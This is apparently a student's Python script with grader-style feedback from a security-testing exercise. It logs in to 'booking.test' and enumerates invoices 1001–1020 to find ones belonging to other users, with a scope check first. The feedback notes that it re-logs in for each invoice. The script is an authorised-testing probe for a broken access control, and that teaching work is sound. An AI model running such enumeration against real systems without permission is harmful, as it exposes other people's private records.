# advice: Your program sends more requests than one sign-in and one for each invoice, and over the whole scope that's too many. Sign in once, keep the cookie, and keep the text of each answer.
# look: 04-the-whole-scope
import json
from http.client import HTTPConnection
from urllib.parse import urlencode

FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def ask(method, path, body, headers):
    """Send one request. Return its status, its Set-Cookie header and its text."""
    connection = HTTPConnection("booking.test", timeout=2)
    connection.request(method, path, body, headers)
    response = connection.getresponse()
    answer = response.status, response.getheader("Set-Cookie"), response.read().decode()
    connection.close()
    return answer


user = input()
password = input()
first, last = [int(number) for number in input().split("-")]

# The scope comes first: nothing may leave the program before it's clear that it may.
if first < 1001 or last > 1020:
    print("out of scope")
else:
    form = urlencode({"user": user, "password": password})
    status, cookie, _ = ask("POST", "/login", form, FORM)
    if status != 302:
        print("login refused")
    else:
        session = {"Cookie": cookie.partition(";")[0]}
        opened = 0
        foreign = 0
        for number in range(first, last + 1):
            _, cookie, _ = ask("POST", "/login", form, FORM)
            session = {"Cookie": cookie.partition(";")[0]}
            status, _, text = ask("GET", f"/invoices/{number}", None, session)
            if status == 200:
                opened += 1
                owner = json.loads(text)["owner"]
                if owner != user:
                    foreign += 1
                    print(number, "belongs to", owner)
        print(foreign, "of", opened, "were not yours")
